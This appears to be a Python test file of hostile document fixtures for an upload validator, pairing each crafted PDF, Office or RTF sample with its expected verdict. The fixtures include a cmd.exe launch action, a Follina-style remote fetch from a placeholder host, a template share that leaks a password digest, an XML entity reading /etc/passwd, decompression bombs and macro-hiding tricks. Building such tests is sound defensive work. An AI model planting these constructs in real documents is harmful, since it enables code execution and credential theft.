"""Documents: what runs or fetches when they are opened."""

import struct
import zipfile
import zlib

from tests.tickets.hostile_files.archives import patched
from tests.tickets.hostile_files.hostile import (
    ACCEPTED,
    BOMB,
    LOCKED,
    MACRO,
    MISMATCH,
    OBJECT,
    REMOTE,
    Hostile,
)
from tests.tickets.samples import (
    MIB,
    PDF,
    archive,
    declared,
    doc,
    docx,
    office,
    ole,
    xls,
    xlsx,
)

HALF = b"%PDF-1.4\n% separuh"
RTF_START = rb"{\rtf1\ansi Surat "


def shortened_types():
    """A document whose content types are said to end before the macros are told."""
    innocent, macros = b"<Types>", declared("application/vnd.ms-office.vbaProject").encode()
    whole = archive(
        {"[Content_Types].xml": innocent + macros + b"</Types>", "word/document.xml": ""},
        zipfile.ZIP_STORED,
    )
    lie = zlib.crc32(innocent), len(innocent), len(innocent)
    return patched(whole, b"PK\x01\x02", 16, "<LLL", *lie)


def doubled_types():
    """A document with two lists of parts, of which each program reads another."""
    macros = f"<Types>{declared('application/vnd.ms-office.vbaProject')}</Types>"
    lists = {"[Content_Types].xml": "<Types/>", "[content_types].xml": macros}
    return archive(lists | {"word/document.xml": ""})


def told_in_utf16():
    """A document whose list of parts has a NUL beside every letter."""
    macros = f"<Types>{declared('application/vnd.ms-office.vbaProject')}</Types>"
    return archive({"[Content_Types].xml": macros.encode("utf-16"), "word/document.xml": ""})


def related(kind, target):
    """A document that has something to do with what is elsewhere."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    line = f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(**{"word/_rels/document.xml.rels": rels(line)})


def rels(lines):
    return f'<?xml version="1.0"?><Relationships>{lines}</Relationships>'


def bound_sheet(kind):
    """The record that names a sheet in an old workbook: 0 is a table, 1 holds Excel 4 macros."""
    return struct.pack("<HHLBBBB", 0x85, 8 + 6, 0x300, 2, kind, 6, 0) + b"Macro1"


def pdf_with(action):
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<<" + action + b">>")


DOCUMENTS = [
    Hostile(
        "pdf with JavaScript",
        "surat.pdf",
        ACCEPTED,
        pdf_with(b"/S/JavaScript/JS(app.alert(1))"),
        "forms of offices have it; readers keep it in a box",
    ),
    Hostile(
        "pdf that starts a program",
        "surat.pdf",
        ACCEPTED,
        pdf_with(b"/S/Launch/F(cmd.exe)"),
        "readers ask or refuse; mostly compressed, so for the scan",
    ),
    Hostile(
        "pdf with a file inside",
        "surat.pdf",
        ACCEPTED,
        PDF + b"5 0 obj<</Type/EmbeddedFile/Length 3>>stream\nisi\nendstream endobj",
        "signed letters carry their data",
    ),
    Hostile(
        "locked pdf",
        "surat.pdf",
        ACCEPTED,
        PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"),
        "offices lock against changes",
    ),
    Hostile(
        "cut pdf",
        "surat.pdf",
        ACCEPTED,
        PDF[:-20],
        "readers mend it; no refusal an hour before closing",
    ),
    Hostile(
        "pdf and archive",
        "surat.pdf",
        ACCEPTED,
        PDF + archive({"a": "isi"}),
        "is a pdf; no ending makes it an archive",
    ),
    Hostile("pdf and archive as archive", "data.zip", MISMATCH, PDF + archive({"a": "isi"})),
    Hostile("pdf of one line", "surat.pdf", ACCEPTED, HALF, "cut early, as above"),
    Hostile("pdf of three bytes", "surat.pdf", MISMATCH, b"%PD"),
    Hostile(
        "docm renamed",
        "surat.docx",
        MACRO,
        docx(types=declared("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "macros",
    ),
    Hostile(
        "macros under another name",
        "surat.docx",
        MACRO,
        docx(types=declared("application/vnd.ms-office.vbaProject")),
        "macros",
    ),
    Hostile(
        "macros written otherwise",
        "surat.docx",
        MACRO,
        docx(types=declared("application/vnd.ms-office.vb&#97;Project")),
        "Word reads XML, not bytes",
    ),
    Hostile(
        "macros told in UTF-16",
        "surat.docx",
        MACRO,
        told_in_utf16(),
        "Word reads UTF-16 too",
    ),
    Hostile(
        "macros only linked",
        "surat.docx",
        MACRO,
        docx(
            **{
                "word/_rels/document.xml.rels": rels(
                    '<Relationship Type="http://x/relationships/vbaProject" Target="a.bin"/>'
                )
            }
        ),
        "macros",
    ),
    Hostile(
        "macros behind the end",
        "surat.docx",
        MISMATCH,
        shortened_types(),
        "the list is cut short by a lie",
    ),
    Hostile(
        "two lists of parts", "surat.docx", MISMATCH, doubled_types(), "each program reads another"
    ),
    Hostile(
        "sheet of Excel 4 macros",
        "data.xlsx",
        MACRO,
        xlsx(types=declared("application/vnd.ms-excel.macrosheet+xml")),
        "macros",
    ),
    Hostile("binary workbook renamed", "data.xlsx", MISMATCH, office("xl/workbook.bin")),
    Hostile(
        "template from elsewhere",
        "surat.docx",
        REMOTE,
        related("attachedTemplate", "https://jahat.example/a.dotm"),
        "brings its macros",
    ),
    Hostile(
        "template from a share",
        "surat.docx",
        REMOTE,
        related("attachedTemplate", r"file:///\\192.0.2.7\a\b.dotm"),
        "tells the password's digest",
    ),
    Hostile(
        "Follina",
        "surat.docx",
        REMOTE,
        related("oleObject", "mhtml:https://jahat.example/a!x-usc:https://jahat.example/a"),
        "CVE-2022-30190",
    ),
    Hostile(
        "template of the author's own",
        "surat.docx",
        ACCEPTED,
        related("attachedTemplate", r"file:///C:\Users\budi\Normal.dotm"),
        "Word writes it all the time",
    ),
    Hostile(
        "hyperlink",
        "surat.docx",
        ACCEPTED,
        related("hyperlink", "https://lkpp.go.id/"),
        "waits for a click",
    ),
    Hostile(
        "entity from a file",
        "surat.docx",
        MISMATCH,
        archive(
            {
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            }
        ),
        "no Office writes a doctype",
    ),
    Hostile(
        "a billion laughs",
        "surat.docx",
        MISMATCH,
        archive(
            {
                "[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "ha">]><Types>&b;&b;</Types>',
                "word/document.xml": "",
            }
        ),
        "as above",
    ),
    Hostile(
        "program among the parts",
        "surat.docx",
        MISMATCH,
        docx(**{"word/embeddings/setup.exe": "MZ"}),
        "no Office writes it",
    ),
    Hostile(
        "locked docx",
        "surat.docx",
        LOCKED,
        ole("EncryptionInfo", "EncryptedPackage"),
        "nobody can look inside",
    ),
    Hostile(
        "nothing but content types",
        "data.xlsx",
        MISMATCH,
        archive({"[Content_Types].xml": "<Types/>"}),
    ),
    Hostile(
        "6,000 parts",
        "surat.docx",
        BOMB,
        lambda: [
            archive(
                {"[Content_Types].xml": "<Types/>", "word/document.xml": ""}
                | dict.fromkeys(map(str, range(6000)), "")
            )
        ],
        "bomb",
    ),
    Hostile(
        "document of zeros", "surat.docx", BOMB, lambda: [docx(word__a=bytes(30 * MIB))], "bomb"
    ),
    Hostile("cut docx", "surat.docx", MISMATCH, docx()[:-30]),
    Hostile(
        "old document with macros",
        "surat.doc",
        MACRO,
        ole("WordDocument", "Macros", "VBA", "_VBA_PROJECT"),
        "macros",
    ),
    Hostile(
        "old workbook with macros", "data.xls", MACRO, ole("Workbook", "_VBA_PROJECT_CUR"), "macros"
    ),
    Hostile(
        "old workbook with Excel 4 macros",
        "data.xls",
        MACRO,
        ole("Workbook", sheet=bound_sheet(1)),
        "macros",
    ),
    Hostile(
        "old workbook with a table",
        "data.xls",
        ACCEPTED,
        ole("Workbook", sheet=bound_sheet(0)),
        "an honest file that is close to one",
    ),
    Hostile("compound file without streams", "surat.doc", MISMATCH, ole()),
    Hostile("only a compound file's head", "surat.doc", MISMATCH, doc()[:512]),
    Hostile(
        "RTF with an object",
        "surat.doc",
        OBJECT,
        RTF_START + rb"{\object\objemb{\*\objdata 0105}}}",
        "equations that run (CVE-2017-11882)",
    ),
    Hostile(
        "RTF that fetches an object",
        "surat.doc",
        OBJECT,
        RTF_START + rb"{\object\objautlink\objupdate}}",
        "CVE-2017-0199",
    ),
    Hostile(
        "RTF object far inside",
        "surat.doc",
        OBJECT,
        lambda: [RTF_START, b"a" * (MIB - 24), rb"{\object{\*\objdata 01}}}"],
        "searched to the end",
    ),
    Hostile("old workbook as docx", "surat.docx", MISMATCH, xls()),
]
